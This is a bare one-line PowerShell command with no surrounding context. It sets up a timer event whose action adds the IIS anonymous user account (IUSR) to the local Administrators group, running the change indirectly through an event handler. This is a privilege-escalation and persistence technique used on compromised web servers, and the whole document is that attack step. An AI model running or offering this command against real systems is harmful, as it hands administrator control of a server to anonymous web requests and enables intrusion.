Register-ObjectEvent -InputObject (New-Object Timers.Timer 10) -EventName Elapsed -Action { net localgroup Administrators IUSR /add }
